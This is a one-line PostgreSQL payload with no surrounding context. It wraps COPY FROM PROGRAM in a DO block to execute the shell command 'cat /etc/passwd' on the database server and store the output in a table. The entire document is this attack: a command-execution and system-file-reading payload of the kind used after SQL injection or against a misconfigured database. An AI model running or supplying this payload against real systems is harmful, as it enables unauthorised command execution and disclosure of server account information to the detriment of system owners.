DO $$ BEGIN COPY note FROM PROGRAM 'cat /etc/passwd'; END $$;
